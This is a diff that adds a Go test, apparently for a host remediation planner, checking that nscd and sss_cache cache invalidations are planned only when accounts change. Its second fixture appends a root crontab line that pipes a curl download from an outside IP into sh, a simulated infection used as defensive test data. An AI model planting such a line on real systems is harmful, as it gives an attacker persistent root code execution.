@@ -365,3 +365,33 @@ func TestSystemAccountShellWithoutPasswordNotActed(t *testing.T) {
 		t.Errorf("default plan changes passwd: %+v", c.Lines)
 	}
 }
+
+// On the live root, account changes come with the name-service cache
+// invalidations the host needs (nscd, sssd), and only then.
+func TestAccountReloadsLive(t *testing.T) {
+	tree := uid0Tree(t).With(
+		hosttest.Entry{Path: "/usr/sbin/nscd", Data: hosttest.FakeELF("nscd"), Mode: 0o755},
+		hosttest.Entry{Path: "/usr/sbin/sss_cache", Data: hosttest.FakeELF("sss_cache"), Mode: 0o755})
+	dir := build(t, tree)
+	treatAsLive(t, dir, nil)
+	p, _ := planFor(t, dir, hosttest.Window())
+	var got []string
+	for _, r := range p.Reloads {
+		if r.Command[0] == "nscd" || r.Command[0] == "sss_cache" {
+			got = append(got, strings.Join(r.Command, " "))
+		}
+	}
+	if diff := cmp.Diff([]string{"nscd -i passwd", "nscd -i group", "sss_cache -E"}, got); diff != "" {
+		t.Errorf("reloads (-want +got):\n%s", diff)
+	}
+	// No account change: no cache invalidation.
+	dir2 := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/usr/sbin/nscd", Data: hosttest.FakeELF("nscd"), Mode: 0o755}).
+		Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime))
+	treatAsLive(t, dir2, nil)
+	p2, _ := planFor(t, dir2, hosttest.Window())
+	for _, r := range p2.Reloads {
+		if r.Command[0] == "nscd" {
+			t.Errorf("nscd reload without an account change: %v", r.Command)
+		}
+	}
+}
